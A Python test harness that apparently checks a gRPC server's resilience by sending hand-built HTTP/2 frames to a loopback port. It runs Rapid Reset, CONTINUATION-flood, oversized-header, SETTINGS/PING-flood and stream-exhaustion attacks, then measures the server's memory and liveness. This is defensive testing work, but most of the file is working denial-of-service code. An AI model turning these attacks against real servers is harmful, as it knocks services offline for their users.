#!/usr/bin/python3
"""HTTP/2 abuse against a gRPC (or any h2c) port: the attack list of docs/security.md.

Each attack runs on its own connection for a bounded time or count, then the tool checks that
the server is still well: its RSS (from /proc/PID) grew by less than a bound, and a fresh
connection's unary ServerLive call answers grpc-status 0. It prints one line per attack and,
with --json, a machine-readable summary. Only loopback targets are allowed.

  tools/h2_attacks.py --port 8001 --pid 1234 [--attacks rapid_reset,settings_flood] [--seconds 10]

Frames are written by hand (so that nothing in a client library refuses to send them); header
blocks are HPACK-encoded with python3-hpack (Debian), which also decodes the server's answers.
"""
import argparse
import json
import socket
import struct
import sys
import threading
import time

import hpack

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SERVICE = "/inference.GRPCInferenceService/"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def pb_bytes(field, value):
    return varint(field << 3 | 2) + varint(len(value)) + value


def model_infer_request(model="simple"):
    """A ModelInferRequest for examples/models/simple: INPUT0, INPUT1 INT32 [1,16], raw."""
    shape = varint(1) + varint(16)
    inputs = b""
    for name in (b"INPUT0", b"INPUT1"):
        inputs += pb_bytes(5, pb_bytes(1, name) + pb_bytes(2, b"INT32") + pb_bytes(3, shape))
    raw = b"".join(pb_bytes(7, struct.pack("<16i", *range(16))) for _ in range(2))
    return pb_bytes(1, model.encode()) + inputs + raw


def grpc_message(body):
    return b"\x00" + struct.pack(">I", len(body)) + body


def call_headers(method, authority):
    return [(":method", "POST"), (":scheme", "http"), (":path", SERVICE + method),
            (":authority", authority), ("content-type", "application/grpc"), ("te", "trailers")]


class Conn:
    """One client connection; a reader thread (unless paused) parses what the server sends."""

    def __init__(self, port, read=True, settings=b""):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.authority = f"127.0.0.1:{port}"
        self.goaway = None  # error code of the server's GOAWAY
        self.rst = {}  # error code -> count
        self.settings_acks = 0
        self.responses = {}  # stream id -> list of header lists
        self.data = {}  # stream id -> bytes received
        self.closed = False
        self.settings_seen = threading.Event()  # the server's SETTINGS arrived and were ACKed
        self.bytes_in = 0
        self.lock = threading.Lock()
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.reader = None
        if read:
            self.reader = threading.Thread(target=self._read, daemon=True)
            self.reader.start()

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def _recv_exact(self, n):
        buf = b""
        while len(buf) < n:
            chunk = self.sock.recv(n - len(buf))
            if not chunk:
                raise EOFError
            buf += chunk
        return buf

    def _read(self):
        block, block_stream = b"", 0
        try:
            while True:
                hd = self._recv_exact(9)
                length = int.from_bytes(hd[:3], "big")
                kind, flags, stream = hd[3], hd[4], struct.unpack(">I", hd[5:])[0] & 0x7FFFFFFF
                payload = self._recv_exact(length) if length else b""
                self.bytes_in += 9 + length
                if kind == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                    self.settings_seen.set()
                elif kind == SETTINGS:
                    self.settings_acks += 1
                elif kind == GOAWAY:
                    self.goaway = struct.unpack(">I", payload[4:8])[0]
                elif kind == RST_STREAM:
                    code = struct.unpack(">I", payload[:4])[0]
                    with self.lock:
                        self.rst[code] = self.rst.get(code, 0) + 1
                elif kind == PING and not flags & ACK:
                    self.send(frame(PING, ACK, 0, payload))
                elif kind == DATA:
                    with self.lock:
                        self.data[stream] = self.data.get(stream, b"") + payload
                    if length:  # keep the server's windows open
                        self.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", length)) +
                                  frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", length)))
                elif kind in (HEADERS, CONTINUATION):
                    if kind == HEADERS:
                        pad = payload[0] if flags & 0x8 else 0
                        start = (1 if flags & 0x8 else 0) + (5 if flags & 0x20 else 0)
                        payload = payload[start:len(payload) - pad]
                        block_stream = stream
                    block += payload
                    if flags & END_HEADERS:
                        headers = self.decoder.decode(block)
                        block = b""
                        with self.lock:
                            self.responses.setdefault(block_stream, []).append(headers)
        except (EOFError, OSError, hpack.HPACKError):
            self.closed = True

    def settle(self):
        """Waits for the server's SETTINGS (and our ACK): no frame of ours may interleave an open
        header block, so attacks that leave one open start after this."""
        self.settings_seen.wait(2.0)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def grpc_status(self, stream):
        with self.lock:
            for headers in self.responses.get(stream, []):
                for k, v in headers:
                    if k == "grpc-status":
                        return int(v)
        return None


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def unary_call(port, method="ServerLive", message=b"", extra_headers=(), framed=None,
               timeout=10.0):
    """A fresh connection's unary call. Returns {"status", "message", "http_status", "data",
    "headers", "trailers"}; status None when no grpc-status came. `framed` replaces the whole
    request body (the 5-byte prefix included) for malformed-message tests."""
    result = {"status": None, "message": None, "http_status": None, "data": b"", "headers": [],
              "trailers": []}
    try:
        c = Conn(port)
    except OSError:
        return result
    try:
        block = c.encoder.encode(call_headers(method, c.authority) + list(extra_headers))
        body = grpc_message(message) if framed is None else framed
        if len(body) > 16384:
            c.settle()  # the server's windows (1 MiB per stream) apply once its SETTINGS are in
        frames = frame(HEADERS, END_HEADERS, 1, block)
        for at in range(0, len(body), 16384):  # the frame size every peer accepts
            last = at + 16384 >= len(body)
            frames += frame(DATA, END_STREAM if last else 0, 1, body[at:at + 16384])
        if not body:
            frames += frame(DATA, END_STREAM, 1, b"")
        c.send(frames)
        deadline = time.time() + timeout
        while time.time() < deadline and not c.closed:
            if c.grpc_status(1) is not None:
                break
            time.sleep(0.01)
        with c.lock:
            blocks = c.responses.get(1, [])
            result["data"] = c.data.get(1, b"")
        if blocks:
            result["headers"] = blocks[0]
            result["trailers"] = blocks[-1] if len(blocks) > 1 else []
        for k, v in [kv for b in blocks for kv in b]:
            if k == ":status":
                result["http_status"] = int(v)
            elif k == "grpc-status":
                result["status"] = int(v)
            elif k == "grpc-message":
                result["message"] = v
        return result
    finally:
        c.close()


def good_call(port, method="ServerLive", body=b"", timeout=10.0):
    """A fresh connection's unary call: its grpc-status (None: no answer)."""
    return unary_call(port, method, body, timeout=timeout)["status"]


# ---- Attacks: each gets a Conn factory, the port, and a time bound; returns notes -------------

def rapid_reset(port, seconds):
    """CVE-2023-44487: HEADERS + DATA + RST_STREAM(CANCEL), as fast as the socket takes them."""
    c = Conn(port)
    body = grpc_message(model_infer_request())
    stream, sent = 1, 0
    end = time.time() + seconds
    while time.time() < end and not c.closed and stream < 2**31 - 200:
        batch = bytearray()
        for _ in range(100):
            block = c.encoder.encode(call_headers("ModelInfer", c.authority))
            batch += frame(HEADERS, END_HEADERS, stream, block)
            batch += frame(DATA, END_STREAM, stream, body)
            batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            stream += 2
            sent += 1
        if not c.send(bytes(batch)):
            break
    time.sleep(0.5)
    c.close()
    return {"streams_sent": sent, "goaway": c.goaway, "rst": c.rst}


def pipelined_calls(port, seconds):
    """Complete ModelInfer calls, never reading an answer: the server's writes back up."""
    c = Conn(port, read=False)
    c.sock.settimeout(1.0)
    body = grpc_message(model_infer_request())
    stream, sent = 1, 0
    end = time.time() + seconds
    while time.time() < end and stream < 2**31 - 200:
        block = c.encoder.encode(call_headers("ModelInfer", c.authority))
        try:
            c.sock.sendall(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body))
        except socket.timeout:
            continue  # the server stopped reading us: back-pressure, as it should
        except OSError:
            break
        stream += 2
        sent += 1
    c.close()
    return {"streams_sent": sent}


def concurrent_streams(port, seconds, count=1000):
    """Opens `count` streams whose bodies never end, then holds them."""
    c = Conn(port)
    for i in range(count):
        block = c.encoder.encode(call_headers("ModelInfer", c.authority))
        if not c.send(frame(HEADERS, END_HEADERS, 1 + 2 * i, block) + frame(DATA, 0, 1 + 2 * i, b"\x00")):
            break
    time.sleep(min(seconds, 3))
    refused = c.rst.get(7, 0)  # REFUSED_STREAM
    c.close()
    return {"opened": count, "refused_streams": refused, "rst": c.rst, "goaway": c.goaway}


def continuation_flood(port, seconds, mib=1000):
    """CVE-2024-27316 class: HEADERS without END_HEADERS, then CONTINUATION frames forever."""
    c = Conn(port)
    c.settle()
    block = c.encoder.encode(call_headers("ModelInfer", c.authority))
    c.send(frame(HEADERS, 0, 1, block))
    # Each CONTINUATION carries fresh literal fields (without indexing), 16 KB at a time.
    chunk = bytearray()
    i = 0
    while len(chunk) < 16000:
        name = f"x-flood-{i}".encode()
        value = b"v" * 100
        chunk += b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
        i += 1
    sent = 0
    end = time.time() + seconds
    while time.time() < end and sent < mib << 20 and not c.closed:
        if not c.send(frame(CONTINUATION, 0, 1, bytes(chunk))):
            break
        sent += len(chunk)
    time.sleep(0.5)
    c.close()
    return {"bytes_sent": sent, "goaway": c.goaway, "closed_by_server": c.closed}


def huge_header_literal(port, seconds, mib=2048):
    """One header literal that claims `mib` MiB, streamed in CONTINUATION frames."""
    c = Conn(port)
    c.settle()
    block = c.encoder.encode(call_headers("ModelInfer", c.authority))
    length = mib << 20
    # Literal without indexing, new name "x-big", value length as an HPACK 7-bit prefix integer.
    value_len = bytearray()
    if length < 127:
        value_len.append(length)
    else:
        value_len.append(127)
        rest = length - 127
        while rest >= 128:
            value_len.append((rest & 0x7F) | 0x80)
            rest >>= 7
        value_len.append(rest)
    c.send(frame(HEADERS, 0, 1, block + b"\x00\x05x-big" + bytes(value_len)))
    piece = b"a" * 16000
    sent = 0
    end = time.time() + seconds
    while time.time() < end and sent < length and not c.closed:
        if not c.send(frame(CONTINUATION, 0, 1, piece)):
            break
        sent += len(piece)
    time.sleep(0.5)
    c.close()
    return {"bytes_sent": sent, "goaway": c.goaway, "closed_by_server": c.closed}


def settings_flood(port, seconds, count=100000):
    """SETTINGS frames, each asking for an ACK."""
    c = Conn(port)
    payload = struct.pack(">HI", 0x3, 100)  # MAX_CONCURRENT_STREAMS = 100
    sent = 0
    end = time.time() + seconds
    while time.time() < end and sent < count and not c.closed:
        if not c.send(frame(SETTINGS, 0, 0, payload) * 1000):
            break
        sent += 1000
    time.sleep(1.0)
    c.close()
    return {"settings_sent": sent, "acks": c.settings_acks, "goaway": c.goaway}


def ping_flood(port, seconds, count=100000):
    """PING frames, each asking for an ACK, with the answers never read."""
    c = Conn(port, read=False)
    c.sock.settimeout(1.0)
    sent = 0
    end = time.time() + seconds
    while time.time() < end and sent < count:
        try:
            c.sock.sendall(frame(PING, 0, 0, b"12345678") * 1000)
        except socket.timeout:
            continue
        except OSError:
            break
        sent += 1000
    c.close()
    return {"pings_sent": sent}


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "huge_header_literal": huge_header_literal,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "concurrent_streams": concurrent_streams,
    "pipelined_calls": pipelined_calls,
}


def run(port, pid, names, seconds, rss_bound_mib):
    results = []
    for name in names:
        before = rss_kib(pid)
        peak = before
        done = {}
        t = threading.Thread(target=lambda: done.update(ATTACKS[name](port, seconds)), daemon=True)
        started = time.time()
        t.start()
        while t.is_alive():
            peak = max(peak, rss_kib(pid))
            t.join(0.1)
        elapsed = time.time() - started
        # Memory the attack made the server take and not give back within 2 s.
        time.sleep(2.0)
        after = rss_kib(pid)
        status = good_call(port)
        result = {
            "attack": name,
            "seconds": round(elapsed, 1),
            "rss_before_mib": round(before / 1024, 1),
            "rss_peak_mib": round(peak / 1024, 1),
            "rss_after_mib": round(after / 1024, 1),
            "next_call_grpc_status": status,
            **done,
        }
        result["ok"] = (peak - before) / 1024 <= rss_bound_mib and status == 0
        results.append(result)
        print(json.dumps(result), flush=True)
    return results


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--pid", type=int, required=True, help="the server's PID (for RSS)")
    ap.add_argument("--attacks", default=",".join(ATTACKS))
    ap.add_argument("--seconds", type=float, default=10.0, help="bound per attack")
    ap.add_argument("--rss-bound-mib", type=float, default=256.0)
    args = ap.parse_args()
    names = [n for n in args.attacks.split(",") if n]
    for n in names:
        if n not in ATTACKS:
            sys.exit(f"unknown attack {n!r}; known: {', '.join(ATTACKS)}")
    results = run(args.port, args.pid, names, args.seconds, args.rss_bound_mib)
    failed = [r["attack"] for r in results if not r["ok"]]
    print(f"{len(results) - len(failed)} passed, {len(failed)} failed")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
